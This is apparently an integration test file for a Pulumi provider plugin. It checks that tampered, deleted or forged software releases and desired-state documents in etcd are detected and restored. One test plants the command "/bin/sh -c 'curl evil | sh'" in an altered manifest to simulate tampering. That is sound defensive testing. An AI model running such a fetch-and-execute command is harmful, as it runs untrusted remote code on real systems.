/**
 * SoftwareRelease and DesiredState through the plugin as the engine drives it (child process,
 * gRPC) against a real etcd with mutual TLS: `Read` reports what the control plane holds now — a
 * release deleted or altered by hand, a desired-state document altered or deleted by hand, the
 * version the node acknowledged — and the next Diff converges it. `pulumi import` (Configure, then
 * a Read with the id alone) rebuilds each resource from what is published.
 */
import { strict as assert } from "node:assert";
import { readFileSync } from "node:fs";
import { join } from "node:path";
import type { InstanceSpec } from "../../../lib/contracts/resources";
import { keys } from "../../../lib/controlplane";
import { certificateSha256 } from "../../../lib/pki/fingerprint";
import { manifestDigest, signRelease, type SignedRelease } from "../../../lib/release";
import { PluginHost, urnOf, type Props } from "../../../provider/host";
import { startTestControlPlane, type TestControlPlane } from "./control-plane-fixture";
import { postgresqlReleaseVersion } from "../../../lab/orchestrate/release-postgresql";
import { EXAMPLE_PACKAGE_VERSIONS } from "../../../scripts/example-releases";

const SR = urnOf("dc1", "zeroroot", "zeroroot:release:SoftwareRelease", "dc1-postgresql");
const DS = urnOf("dc1", "zeroroot", "zeroroot:desired-state:DesiredState", "dc1-s01-state");
/** The example PostgreSQL release's version: scripts/example-releases.ts signs it from the lab's definition. */
const PG_VERSION = postgresqlReleaseVersion(EXAMPLE_PACKAGE_VERSIONS["postgresql-15"]);
const EXAMPLE = join(__dirname, `../../../releases/postgresql-${PG_VERSION}.signed.json`);

type Stored = { id: string; inputs: Props; outs: Props };

describe("provider plugin over gRPC: Read and import of SoftwareRelease and DesiredState against etcd", function () {
  this.timeout(120_000);
  let cp: TestControlPlane;
  let plugin: PluginHost;
  let signed: SignedRelease;
  let release: Stored;
  let state: Stored;

  const releaseInputs = (): Props => ({
    name: signed.manifest.name,
    version: signed.manifest.version,
    manifestDigest: manifestDigest(signed.manifest),
    signerCertificatePem: signed.signature.certificates[0],
    signature: signed.signature.value,
    manifest: signed.manifest,
    signatureAlgorithm: signed.signature.algorithm,
    signerChainCertificates: signed.signature.certificates.slice(1),
    rootCertificateSha256: certificateSha256(cp.rootPem),
    controlPlaneEndpoints: [cp.endpoint],
  });
  const instance = (): InstanceSpec => ({
    name: "postgresql",
    release: {
      name: signed.manifest.name,
      version: signed.manifest.version,
      manifestDigest: manifestDigest(signed.manifest),
    },
    partition: { user: "zr-p001", uid: 2101 },
    programs: [
      {
        name: "postgres",
        command: "/usr/bin/postgres",
        user: "zr-p001",
        uid: 2101,
        capabilities: [],
        noNewPrivileges: true,
      },
    ],
    endpoints: [{ port: 5432, protocol: "tcp", tls: true, requireClientCertificate: true }],
    holdsData: true,
    minimumPersistenceSeconds: 2_592_000,
    parameters: {},
  });
  const stateInputs = (): Props => ({
    computerId: "dc1-s01",
    dataCenter: "dc1",
    instances: [instance()],
    controlPlaneEndpoints: [cp.endpoint],
    rootCertificateSha256: certificateSha256(cp.rootPem),
  });
  const put = (key: string, value: string) => cp.etcdctl(["put", key, value]);
  const del = (key: string) => cp.etcdctl(["del", key]);
  const checked = async (urn: string, inputs: Props) => {
    const r = await plugin.check(urn, {}, inputs);
    assert.deepEqual(r.failures, []);
    return r.inputs;
  };

  before(async () => {
    cp = await startTestControlPlane();
    const example = JSON.parse(readFileSync(EXAMPLE, "utf8")) as SignedRelease;
    signed = signRelease(example.manifest, cp.releaseSigner);
    plugin = await PluginHost.start({ env: cp.env, launcher: cp.launcher });
    // As the engine configures the stack's explicit provider (components/provider.ts).
    await plugin.configure({ rootCertificatePem: cp.rootPem, controlPlaneEndpoints: [cp.endpoint] });
  });
  after(async () => {
    await plugin?.close();
    await cp?.stop();
  });

  describe("SoftwareRelease", () => {
    it("Create publishes it; Read sees it published", async () => {
      const inputs = await checked(SR, releaseInputs());
      release = { ...(await plugin.create(SR, inputs)), inputs };
      assert.equal(release.id, `postgresql@${PG_VERSION}`);
      const r = await plugin.read(release.id, SR, release.outs, release.inputs);
      assert.equal(r.props.published, true);
      assert.equal(
        (await plugin.diff(release.id, SR, r.props, inputs, r.inputs)).changes,
        false,
        "nothing to do",
      );
    });

    it("Read reports a release deleted by hand, and the next Update publishes it again", async () => {
      await del(keys.release("postgresql", PG_VERSION));
      const r = await plugin.read(release.id, SR, release.outs, release.inputs);
      assert.equal(r.props.published, false);
      assert.equal(r.props.publishedDigest, "");
      const d = await plugin.diff(release.id, SR, r.props, release.inputs, r.inputs);
      assert.deepEqual([d.changes, d.replaces], [true, []]);
      await plugin.update(release.id, SR, r.props, release.inputs, r.inputs);
      const back = await plugin.read(release.id, SR, release.outs, release.inputs);
      assert.equal(back.props.published, true);
    });

    it("Read reports a release altered by hand in the control plane (another manifest at its key)", async () => {
      const altered = structuredClone(signed) as SignedRelease & {
        manifest: { programs: { command: string }[] };
      };
      altered.manifest.programs[0].command = "/bin/sh -c 'curl evil | sh'";
      await put(keys.release("postgresql", PG_VERSION), JSON.stringify(altered));
      const r = await plugin.read(release.id, SR, release.outs, release.inputs);
      assert.equal(r.props.published, false);
      assert.notEqual(r.props.publishedDigest, release.inputs.manifestDigest);
      await plugin.update(release.id, SR, r.props, release.inputs, r.inputs);
      assert.equal((await plugin.read(release.id, SR, release.outs, release.inputs)).props.published, true);
    });

    it("imports a published release by <name>@<version> alone, verified against the provider's root", async () => {
      const r = await plugin.read(`postgresql@${PG_VERSION}`, SR, {}, {});
      assert.equal(r.id, `postgresql@${PG_VERSION}`);
      assert.equal(r.props.published, true);
      assert.equal(r.inputs.manifestDigest, release.inputs.manifestDigest);
      assert.equal(r.inputs.rootCertificateSha256, certificateSha256(cp.rootPem));
      const d = await plugin.diff(r.id, SR, r.props, release.inputs, r.inputs);
      assert.equal(d.changes, false, "the program's declaration matches what was imported");
      const missing = await plugin.read("postgresql@99.0.0", SR, {}, {});
      assert.equal(missing.id, "", "nothing published: the engine is told it does not exist");
      await assert.rejects(plugin.read("postgresql", SR, {}, {}), /give <name>@<version>/);
    });

    it("refuses to import a release that does not verify against the provider's root", async () => {
      const forged = {
        ...signed,
        signature: { ...signed.signature, value: signed.signature.value.replace(/^.{8}/, "AAAAAAAA") },
      };
      await put(
        keys.release("forged", "1.0.0"),
        JSON.stringify({ ...forged, manifest: { ...signed.manifest } }),
      );
      await assert.rejects(plugin.read("forged@1.0.0", SR, {}, {}), /is refused/);
    });
  });

  describe("DesiredState", () => {
    it("Create signs and publishes version 1; Read reports it published and not yet acknowledged", async () => {
      const inputs = await checked(DS, stateInputs());
      state = { ...(await plugin.create(DS, inputs)), inputs };
      assert.equal(state.outs.version, 1);
      assert.equal(state.outs.instances, undefined, "outputs do not repeat the inputs");
      const r = await plugin.read(state.id, DS, state.outs, state.inputs);
      assert.equal(r.props.publishedVersion, 1);
      assert.equal(r.props.acknowledgedVersion, 0);
    });

    it("Read reports the version the node acknowledged in its status report", async () => {
      await put(keys.status("dc1-s01"), JSON.stringify({ desired: { version: 1 }, instances: [] }));
      const r = await plugin.read(state.id, DS, state.outs, state.inputs);
      assert.equal(r.props.acknowledgedVersion, 1);
      assert.equal((await plugin.diff(state.id, DS, r.props, state.inputs, r.inputs)).changes, false);
    });

    it("Read reports a document altered by hand (another version published); Update signs above it", async () => {
      const text = await cp.etcdctl(["get", "--print-value-only", keys.desired("dc1-s01")]);
      const doc = JSON.parse(text) as { document: { version: number } };
      doc.document.version = 7;
      await put(keys.desired("dc1-s01"), JSON.stringify(doc));
      const r = await plugin.read(state.id, DS, state.outs, state.inputs);
      assert.equal(r.props.publishedVersion, 7);
      const d = await plugin.diff(state.id, DS, r.props, state.inputs, r.inputs);
      assert.deepEqual([d.changes, d.replaces], [true, []]);
      const outs = await plugin.update(state.id, DS, r.props, state.inputs, r.inputs);
      assert.equal(outs.version, 8, "above the version found, so the node accepts it");
      state = { ...state, outs };
    });

    it("Read reports a document deleted by hand; Update publishes it again", async () => {
      await del(keys.desired("dc1-s01"));
      const r = await plugin.read(state.id, DS, state.outs, state.inputs);
      assert.equal(r.props.publishedVersion, 0);
      const d = await plugin.diff(state.id, DS, r.props, state.inputs, r.inputs);
      assert.equal(d.changes, true);
      const outs = await plugin.update(state.id, DS, r.props, state.inputs, r.inputs);
      assert.equal(outs.version, 9);
      state = { ...state, outs };
    });

    it("imports a computer's desired state by its id alone, the inputs rebuilt from the document", async () => {
      const r = await plugin.read("dc1-s01", DS, {}, {});
      assert.equal(r.id, "dc1-s01");
      assert.equal(r.props.version, 9);
      assert.equal(r.props.acknowledgedVersion, 1);
      assert.deepEqual(r.inputs.instances, [instance()]);
      assert.deepEqual(r.inputs.controlPlaneEndpoints, [cp.endpoint]);
      const news = await checked(DS, stateInputs());
      assert.equal((await plugin.diff(r.id, DS, r.props, news, r.inputs)).changes, false);
      assert.equal((await plugin.read("dc1-s99", DS, {}, {})).id, "", "nothing published for it");
    });

    it("leaves the control plane and root to the provider: state written with them moves without a change, then publishes through the configured control plane", async () => {
      const { controlPlaneEndpoints: _e, rootCertificateSha256: _r, ...leanInputs } = stateInputs();
      const lean = await checked(DS, leanInputs);
      assert.deepEqual([lean.controlPlaneEndpoints, lean.rootCertificateSha256], [undefined, undefined]);
      // state.inputs were written with both (as every DesiredState was before the move).
      assert.deepEqual(state.inputs.controlPlaneEndpoints, [cp.endpoint]);
      assert.equal((await plugin.diff(state.id, DS, state.outs, lean, state.inputs)).changes, false);
      const outs = await plugin.update(state.id, DS, state.outs, { ...lean, instances: [] }, state.inputs);
      assert.equal(outs.version, 10);
      assert.equal(outs.controlPlaneEndpoints, undefined, "not in the outputs either");
      const r = await plugin.read(state.id, DS, outs, { ...lean, instances: [] });
      assert.equal(r.props.publishedVersion, 10, "published at the configured control plane");
      assert.deepEqual(
        [r.inputs.controlPlaneEndpoints, r.inputs.rootCertificateSha256],
        [undefined, undefined],
      );
      const text = await cp.etcdctl(["get", "--print-value-only", keys.desired("dc1-s01")]);
      assert.deepEqual((JSON.parse(text) as { document: { instances: unknown[] } }).document.instances, []);
      // A computer created this way from the start.
      const fresh = await checked(DS, { ...leanInputs, computerId: "dc1-s02" });
      const created = await plugin.create(DS, fresh);
      assert.equal(created.outs.version, 1);
      assert.equal(created.outs.controlPlaneEndpoints, undefined);
      assert.equal((await plugin.read(created.id, DS, created.outs, fresh)).props.publishedVersion, 1);
    });
  });

  it("without the provider's control plane configured, an import says which keys to set", async () => {
    const bare = await PluginHost.start({ env: cp.env, launcher: cp.launcher });
    try {
      await bare.configure({});
      await assert.rejects(
        bare.read("dc1-s01", DS, {}, {}),
        /set the zeroroot provider's rootCertificatePem and controlPlaneEndpoints/,
      );
      await assert.rejects(
        bare.check(SR, {}, releaseInputs()).then((r) => {
          if (r.failures.length > 0) throw new Error(r.failures[0].reason);
        }),
        /no rootCertificatePem configured/,
      );
    } finally {
      await bare.close();
    }
  });
});
